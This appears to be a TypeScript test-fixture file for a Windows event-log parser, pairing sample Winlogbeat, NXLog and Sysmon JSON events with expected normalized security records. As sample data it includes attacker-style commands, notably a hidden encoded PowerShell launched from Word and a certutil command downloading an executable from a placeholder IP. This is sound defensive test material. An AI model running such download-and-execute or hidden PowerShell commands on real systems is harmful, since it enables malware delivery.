/** Written from Microsoft's documentation of the events and the collectors' documentation of their JSON. */
import type { SourceSample } from '../source.ts';

export const windowsEventSamples: readonly SourceSample[] = [
  {
    name: 'Winlogbeat: a log-in over the network fails',
    input:
      '{"@timestamp":"2026-11-23T07:00:01.123Z","winlog":{"channel":"Security","event_id":4625,"computer_name":"SHOP-PC1.example.org","provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"TargetUserName":"a.weber","TargetDomainName":"SHOP","LogonType":"3","SubStatus":"0xc000006a","IpAddress":"203.0.113.7","IpPort":"51122","WorkstationName":"KALI"}}}',
    expect: {
      reported: [
        {
          kind: 'login.failed',
          subjects: {
            account: 'a.weber',
          },
          observables: {
            ip: '203.0.113.7',
          },
          facts: {
            logonType: '3',
            reason: '0xc000006a',
            eventId: 4625,
            channel: 'Security',
            host: 'SHOP-PC1.example.org',
          },
          observedAt: 1795417201123,
          log: {
            product: 'windows',
            service: 'security',
            fields: {
              Computer: 'SHOP-PC1.example.org',
              Provider_Name: 'Microsoft-Windows-Security-Auditing',
              TargetUserName: 'a.weber',
              TargetDomainName: 'SHOP',
              LogonType: '3',
              SubStatus: '0xc000006a',
              IpAddress: '203.0.113.7',
              IpPort: '51122',
              WorkstationName: 'KALI',
              EventID: 4625,
              Channel: 'Security',
            },
          },
          asset: 'shop-pc1',
        },
      ],
    },
  },
  {
    name: 'NXLog: Sysmon sees a program started',
    input:
      '{"EventTime":"2026-11-23T08:00:01.123000+01:00","Hostname":"shop-pc1","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","CommandLine":"powershell -nop -w hidden -enc SQBFAFgA","ParentImage":"C:\\\\Program Files\\\\Microsoft Office\\\\WINWORD.EXE","User":"SHOP\\\\a.weber","Hashes":"MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"}',
    expect: {
      reported: [
        {
          kind: 'process.started',
          subjects: {
            account: 'a.weber',
          },
          observables: {
            hash: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaabbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb',
          },
          facts: {
            image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            command: 'powershell -nop -w hidden -enc SQBFAFgA',
            parent: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
            eventId: 1,
            channel: 'Microsoft-Windows-Sysmon/Operational',
            host: 'shop-pc1',
          },
          observedAt: 1795417201123,
          log: {
            category: 'process_creation',
            product: 'windows',
            service: 'sysmon',
            fields: {
              Computer: 'shop-pc1',
              Provider_Name: 'Microsoft-Windows-Sysmon',
              EventTime: '2026-11-23T08:00:01.123000+01:00',
              Hostname: 'shop-pc1',
              EventID: 1,
              Channel: 'Microsoft-Windows-Sysmon/Operational',
              SourceName: 'Microsoft-Windows-Sysmon',
              Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              CommandLine: 'powershell -nop -w hidden -enc SQBFAFgA',
              ParentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
              User: 'SHOP\\a.weber',
              Hashes:
                'MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB',
            },
          },
          asset: 'shop-pc1',
        },
      ],
    },
  },
  {
    name: 'XML as JSON: an account joins the administrators',
    input:
      '{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4732,"Channel":"Security","Computer":"DC1","TimeCreated":{"#attributes":{"SystemTime":"2026-11-23T07:00:01.123456Z"}}},"EventData":{"TargetUserName":"Administrators","MemberName":"SHOP\\\\eve","SubjectUserName":"a.weber"}}}',
    expect: {
      reported: [
        {
          kind: 'account.changed',
          subjects: {
            account: 'eve',
          },
          facts: {
            change: 'rights-granted',
            by: 'a.weber',
            group: 'Administrators',
            eventId: 4732,
            channel: 'Security',
            host: 'DC1',
          },
          observedAt: 1795417201123,
          log: {
            product: 'windows',
            service: 'security',
            fields: {
              Computer: 'DC1',
              Provider_Name: 'Microsoft-Windows-Security-Auditing',
              TargetUserName: 'Administrators',
              MemberName: 'SHOP\\eve',
              SubjectUserName: 'a.weber',
              EventID: 4732,
              Channel: 'Security',
            },
          },
          asset: 'dc1',
        },
      ],
    },
  },
  {
    name: 'XML as JSON, its data as a list: a name is looked up',
    input:
      '{"Event":{"System":{"EventID":{"#text":"22"},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"PC1","TimeCreated":{"@SystemTime":"2026-11-23T07:00:01Z"}},"EventData":{"Data":[{"@Name":"QueryName","#text":"Evil.Example."},{"@Name":"Image","#text":"C:\\\\x.exe"},{"@Name":"User","#text":"SHOP\\\\eve"}]}}}',
    expect: {
      reported: [
        {
          kind: 'domain.resolved',
          subjects: {
            account: 'eve',
          },
          observables: {
            domain: 'evil.example',
          },
          facts: {
            image: 'C:\\x.exe',
            eventId: 22,
            channel: 'Microsoft-Windows-Sysmon/Operational',
            host: 'PC1',
          },
          observedAt: 1795417201000,
          log: {
            category: 'dns_query',
            product: 'windows',
            service: 'sysmon',
            fields: {
              Computer: 'PC1',
              QueryName: 'Evil.Example.',
              Image: 'C:\\x.exe',
              User: 'SHOP\\eve',
              EventID: 22,
              Channel: 'Microsoft-Windows-Sysmon/Operational',
            },
          },
          asset: 'pc1',
        },
      ],
    },
  },
  {
    name: 'a program is started, seen by the audit policy',
    input:
      '{"EventTime":"2026-11-23 07:00:01","Hostname":"PC1","EventID":"4688","Channel":"Security","SubjectUserName":"eve","NewProcessName":"C:\\\\Windows\\\\System32\\\\certutil.exe","CommandLine":"certutil -urlcache -f http://192.0.2.1/x x.exe","ParentProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe"}',
    expect: {
      reported: [
        {
          kind: 'process.started',
          subjects: {
            account: 'eve',
          },
          facts: {
            image: 'C:\\Windows\\System32\\certutil.exe',
            command: 'certutil -urlcache -f http://192.0.2.1/x x.exe',
            parent: 'C:\\Windows\\System32\\cmd.exe',
            eventId: 4688,
            channel: 'Security',
            host: 'PC1',
          },
          observedAt: 1795417201000,
          log: {
            category: 'process_creation',
            product: 'windows',
            service: 'security',
            fields: {
              Computer: 'PC1',
              EventTime: '2026-11-23 07:00:01',
              Hostname: 'PC1',
              EventID: 4688,
              Channel: 'Security',
              SubjectUserName: 'eve',
              NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
              CommandLine: 'certutil -urlcache -f http://192.0.2.1/x x.exe',
              ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
              Image: 'C:\\Windows\\System32\\certutil.exe',
              ParentImage: 'C:\\Windows\\System32\\cmd.exe',
              User: 'eve',
            },
          },
          asset: 'pc1',
        },
      ],
    },
  },
  {
    name: 'a script as it was run',
    input:
      '{"EventTime":"2026-11-23T07:00:01Z","Hostname":"PC1","EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"Invoke-Expression \\"a\\"\\n$b"}',
    expect: {
      reported: [
        {
          kind: 'host.logged',
          observables: {},
          facts: {
            text: 'Invoke-Expression "a" $b',
            eventId: 4104,
            channel: 'Microsoft-Windows-PowerShell/Operational',
            host: 'PC1',
          },
          observedAt: 1795417201000,
          log: {
            category: 'ps_script',
            product: 'windows',
            service: 'powershell',
            fields: {
              Computer: 'PC1',
              EventTime: '2026-11-23T07:00:01Z',
              Hostname: 'PC1',
              EventID: 4104,
              Channel: 'Microsoft-Windows-PowerShell/Operational',
              ScriptBlockText: 'Invoke-Expression "a"\n$b',
            },
          },
          asset: 'pc1',
        },
      ],
    },
  },
  {
    name: 'a service logs on to its own machine',
    input:
      '{"EventTime":"2026-11-23T07:00:01Z","Hostname":"PC1","EventID":4624,"Channel":"Security","TargetUserName":"PC1$","LogonType":"3"}',
    expect: {
      ignored: true,
    },
  },
  {
    name: 'no event',
    input: '{"message":"hello"}',
    expect: {
      refused: 'neither an event number nor a channel was found',
    },
  },
  {
    name: 'a time in words',
    input: '{"EventID":1,"Channel":"System","EventTime":"now"}',
    expect: {
      refused: 'time of the event: expected an ISO 8601 time',
    },
  },
  {
    name: 'no JSON',
    input: '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"/>',
    expect: {
      refused: 'not JSON',
    },
  },
];
